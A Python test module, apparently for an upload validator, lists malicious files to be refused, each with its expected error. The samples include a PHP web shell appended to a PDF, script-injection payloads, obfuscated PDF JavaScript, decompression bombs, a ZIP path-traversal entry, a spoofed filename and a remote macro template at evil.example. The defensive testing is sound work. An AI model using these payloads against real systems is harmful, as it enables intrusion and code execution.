"""Files that must be refused, each with the rule that refuses it (security: uploads)."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.adapters import samples

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Case:
    """A file, its name, and the status and words of its refusal."""

    name: str
    content: Callable[[], bytes]
    status: int
    words: str


def png_bomb(side: int) -> bytes:
    """A sound PNG of side × side pixels in a few kilobytes."""
    row = b"\0" + bytes(side // 8 + 1)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _row in range(side)) + packer.flush()
    return png_of(struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0), data)


def png_of(header: bytes, data: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """A PNG of raw chunks."""
    chunks = ((b"IHDR", header), *more, (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content)) + kind + content
        + struct.pack(">I", zlib.crc32(kind + content))
        for kind, content in chunks
    )  # fmt: skip


def png_header(side: int) -> bytes:
    """A PNG that promises side × side pixels and has none."""
    return png_of(struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0), b"")


def text_bomb() -> bytes:
    """A PNG whose compressed comment unpacks to 100 MB."""
    header = struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)
    comment = b"Comment\0\0" + zlib.compress(bytes(100 * 2**20), 9)
    return png_of(header, zlib.compress(bytes(9 * 8)), (b"zTXt", comment))


def moving_png() -> bytes:
    """An animated PNG of two frames."""
    frames = [samples.scan(40, 40), samples.scan(40, 40).rotate(180)]
    return samples.in_bytes(frames[0], "PNG", save_all=True, append_images=frames[1:])


def acting_pdf(**root) -> bytes:
    """A PDF with something more in its catalogue, hidden in an object stream."""

    def edit(document: pikepdf.Pdf) -> None:
        for key, value in root.items():
            document.Root["/" + key] = document.make_indirect(value)

    return samples.pdf(edit=edit, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def script() -> Dictionary:
    """The action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def hex_script() -> bytes:
    """A script under names written in hexadecimal."""

    def edit(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = script()

    plain = samples.pdf(edit=edit, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/Java#53cript")


def annotated_pdf(**annotation) -> bytes:
    """A PDF with an annotation on its page, as a direct object in an array."""

    def edit(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **annotation)
        document.pages[0].Annots = Array([note])

    return samples.pdf(edit=edit)


def attached_pdf() -> bytes:
    """A PDF that carries a file."""

    def edit(document: pikepdf.Pdf) -> None:
        document.attachments["setup.exe"] = b"MZ"

    return samples.pdf(edit=edit)


def locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    return samples.pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1, the first its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


def page_loop() -> bytes:
    """A PDF whose page tree holds itself."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>",
    )


def slow_pdf() -> bytes:
    """A small PDF that would be drawn for minutes: a page filled again and again."""
    drawing = b"/G gs 0.1 0.2 0.3 rg\n" + b"0 0 m 595 842 l 0 842 l 595 0 l f*\n" * 500_000

    def edit(document: pikepdf.Pdf) -> None:
        state = Dictionary(G=Dictionary(ca=0.5, BM=Name.Luminosity))
        document.pages[0].Resources = Dictionary(ExtGState=state)
        document.pages[0].Contents = document.make_stream(drawing)

    return samples.pdf(edit=edit, compress_streams=True)


def lying_docx() -> bytes:
    """A document whose directory says that 4 MB are 10 bytes."""
    honest = samples.docx(**{"word/document.xml": os.urandom(2**22)})
    size = struct.pack("<I", 2**22)
    return honest.replace(size, struct.pack("<I", 10))


def crowded_docx() -> bytes:
    """A document of 3000 parts."""
    return samples.docx(**{f"word/media/{number}.png": "x" for number in range(3000)})


def fetching_docx() -> bytes:
    """A document that loads its template, and the template's macros, from elsewhere."""
    relations = samples.RELATIONS % ("attachedTemplate", "https://evil.example/t.dotm")
    return samples.docx(**{"word/_rels/settings.xml.rels": relations})


def plain_zip(comment: bytes = b"") -> bytes:
    """An archive that is no document; its comment comes last."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", b"MZ")
        archive.comment = comment
    return out.getvalue()


CASES = (
    Case("空.pdf", lambda: b"", 400, "文件是空的"),
    Case("病毒.pdf", lambda: EICAR, 415, "只改扩展名没有用"),
    Case("网页.pdf", lambda: b"<html><script>alert(1)</script>", 415, "只改扩展名没有用"),
    Case("程序.jpg", lambda: b"MZ" + bytes(500), 415, "只改扩展名没有用"),
    Case("程序.exe", lambda: b"MZ" + bytes(500), 415, "这里只收 PDF/JPG/PNG/DOC/DOCX 文件"),
    Case("矢量.svg", lambda: b"<svg onload='alert(1)'/>", 415, "这里只收"),
    Case("没有扩展名", samples.pdf, 415, "这里只收"),
    Case("照片.png", samples.jpeg, 415, "把扩展名改成 jpg"),
    Case("证书.pdf", samples.png, 415, "把扩展名改成 png"),
    Case("报告.pdf", samples.docx, 415, "把扩展名改成 docx"),
    Case("报告.docx", samples.doc, 415, "把扩展名改成 doc"),
    Case("发票\u202efdp.exe", samples.pdf, 415, "这里只收"),
    Case("双头.pdf", lambda: samples.pdf() + plain_zip(), 415, "接有别的内容"),
    Case("藏包.pdf", lambda: samples.pdf() + plain_zip(b"\n%%EOF\n"), 415, "接有别的内容"),
    Case("尾巴.pdf", lambda: samples.pdf() + b"<?php system($_GET[0]); ?>", 415, "接有别的内容"),
    Case("前缀.pdf", lambda: b"GIF89a" + samples.pdf(), 415, "只改扩展名没有用"),
    Case("截断.pdf", lambda: samples.pdf(3)[:-300], 415, "末尾不完整"),
    Case("半截.pdf", lambda: samples.pdf(3)[:60], 400, "不完整或已损坏"),
    Case("只有头.pdf", lambda: b"%PDF-1.7\n%%EOF\n", 400, "不完整或已损坏"),
    Case("没有页.pdf", lambda: samples.pdf(0), 400, "一页也没有"),
    Case("循环.pdf", page_loop, 400, "没有上传"),
    Case("太多页.pdf", lambda: samples.pdf(201), 413, "有 201 页，最多 200 页"),
    Case("加密.pdf", locked_pdf, 415, "设有打开密码"),
    Case("脚本.pdf", lambda: acting_pdf(OpenAction=script()), 415, "（/JS）"),
    Case("脚本名.pdf", hex_script, 415, "（/JS）"),
    Case(
        "名字树.pdf", lambda: acting_pdf(Names=Dictionary(JavaScript=Array())), 415, "/JavaScript"
    ),
    Case("启动.pdf", lambda: acting_pdf(OpenAction=Dictionary(S=Name.Launch)), 415, "（/Launch）"),
    Case("动作.pdf", lambda: acting_pdf(AA=Dictionary(WC=Dictionary())), 415, "（/AA）"),
    Case("表单.pdf", lambda: acting_pdf(AcroForm=Dictionary(XFA="x")), 415, "（/XFA）"),
    Case("夹带.pdf", attached_pdf, 415, "夹带的文件（/E"),
    Case("媒体.pdf", lambda: annotated_pdf(Subtype=Name.RichMedia), 415, "（/RichMedia）"),
    Case("外链.pdf", lambda: annotated_pdf(A=Dictionary(S=Name.GoToR)), 415, "（/GoToR）"),
    Case("提交.pdf", lambda: annotated_pdf(A=Dictionary(S=Name.SubmitForm)), 415, "/SubmitForm"),
    Case("炸弹.png", lambda: png_bomb(13_000), 413, "13000×13000 像素，最多 2500 万像素"),
    Case("大炸弹.png", lambda: png_header(65_000), 413, "65000×65000 像素，最多 2500 万像素"),
    Case("注释炸弹.png", text_bomb, 400, "不完整或已损坏"),
    Case("动图.png", moving_png, 415, "这是动图"),
    Case("截断.jpg", lambda: samples.jpeg()[:-800], 400, "不完整或已损坏"),
    Case("截断.png", lambda: samples.png()[:-60], 400, "不完整或已损坏"),
    Case("只有头.jpg", lambda: b"\xff\xd8\xff\xe0", 400, "不完整或已损坏"),
    Case("压缩包.docx", plain_zip, 415, "不是 Word 文档"),
    Case("半截.docx", lambda: samples.docx()[:-40], 400, "不完整或已损坏"),
    Case("炸弹.docx", lambda: samples.docx(**{"word/a": bytes(30 * 2**20)}), 413, "展开后过大"),
    Case("说谎.docx", lying_docx, 400, "不完整或已损坏"),
    Case("太多.docx", crowded_docx, 413, "展开后过大"),
    Case("宏.docx", lambda: samples.docx(**{"word/vbaProject.bin": "x"}), 415, "有宏"),
    Case("出逃.docx", lambda: samples.docx(**{"../../etc/x": "x"}), 415, "不是 Word 文档"),
    Case("模板.docx", fetching_docx, 415, "引用了网上的模板"),
    Case("加密.docx", lambda: samples.compound("EncryptedPackage"), 415, "设有打开密码"),
    Case("表格.doc", lambda: samples.compound("Workbook"), 415, "不是 Word 文档"),
    Case("宏.doc", lambda: samples.compound("WordDocument", "Macros"), 415, "有宏"),
    Case(
        "加密.doc",
        lambda: samples.compound("WordDocument", start=b"\xec\xa5" + bytes(8) + b"\0\1"),
        415,
        "设有打开密码",
    ),
    Case("半截.doc", lambda: samples.doc()[:600], 400, "不完整或已损坏"),
)
